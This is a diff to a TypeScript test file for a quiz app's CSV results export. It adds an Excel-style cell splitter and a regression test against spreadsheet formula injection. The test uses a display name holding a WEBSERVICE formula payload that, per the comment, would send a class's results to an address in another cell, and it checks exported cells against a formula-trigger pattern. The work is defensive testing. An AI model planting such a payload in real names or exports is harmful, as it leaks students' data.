@@ -1,4 +1,5 @@
 import type { PrismaClient } from '@quiz/prisma';
+import { checkDisplayName } from '../../src/modules/accounts/nickname';
 import { parseCsvRecords } from '../../src/modules/interop/sheet';
 import { as, errorCode, ok, snapshotDatabase } from '../factories/graphql';
 import { seedTinyKb } from '../factories/knowledge';
@@ -57,6 +58,36 @@ type ImportResult = {
       key: { optionIds: string[]; order: string[]; year: number | null; answers: string[] };
     }[];
   };
+};
+
+/**
+ * The cells of a CSV file as Excel reads them where the list separator is `separator` (`;` in
+ * most of continental Europe): a field that starts with a quote runs to the closing quote (`""` is
+ * a quote), anything else to the next separator.
+ */
+const cellsAsExcelReads = (text: string, separator: string): string[] => {
+  const cells: string[] = [];
+  for (const line of text.replace(/^\uFEFF/, '').split('\r\n')) {
+    let i = 0;
+    while (i <= line.length) {
+      let cell = '';
+      if (line[i] === '"') {
+        i += 1;
+        while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
+          cell += line[i];
+          i += line[i] === '"' ? 2 : 1;
+        }
+        i += 1;
+      }
+      while (i < line.length && line[i] !== separator) {
+        cell += line[i];
+        i += 1;
+      }
+      cells.push(cell);
+      i += 1;
+    }
+  }
+  return cells;
 };
 
 describe('interop over GraphQL: export, import, results', () => {
@@ -307,5 +338,30 @@ NUMERIC_YEAR,Which year was it?,,,,1700,Because.
     expect(Buffer.from(xlsx.exportSetResults.content, 'base64').subarray(0, 2).toString()).toBe(
       'PK',
     );
+  });
+
+  it('a name with semicolons stays one text cell where Excel splits on them (probe 6b)', async () => {
+    // A display name may hold `;` and `=` (only control characters and < > are refused). Where
+    // Excel's list separator is `;` it opens a .csv by splitting every unquoted field there, so
+    // "Ali;=WEBSERVICE(A3&B2);" unquoted became the cells "Ali", "=WEBSERVICE(A3&B2)" (a live
+    // formula: another account's name in A3 as the address, the class's results appended) and "".
+    const name = 'Ali;=WEBSERVICE(A3&B2);';
+    expect(checkDisplayName(name)).toMatchObject({ ok: true, nickname: name });
+    const results = await createTeacherWithSet(db, { questions: 1 });
+    const player = await createStudent(db, { displayName: name });
+    const run = as(api, player.token);
+    const started = await ok<{ startAttempt: { id: string } }>(run(PLAY, { id: results.set.id }));
+    await ok(run(ANSWER, { a: started.startAttempt.id, p: 0, r: results.questions[0]?.right }));
+    await ok(run(FINISH, { a: started.startAttempt.id }));
+    const file = await ok<{ exportSetResults: { content: string } }>(
+      as(api, results.teacherToken)(RESULTS, { id: results.set.id, format: 'CSV' }),
+    );
+    const text = file.exportSetResults.content;
+    const formulas = [',', ';'].flatMap((separator) =>
+      cellsAsExcelReads(text, separator).filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+    );
+    expect(formulas).toEqual([]);
+    // Still RFC 4180: our importer (and a spreadsheet that splits on commas) reads the name back.
+    expect(parseCsvRecords(text).records[1]?.cells[0]).toBe(name);
   });
 });
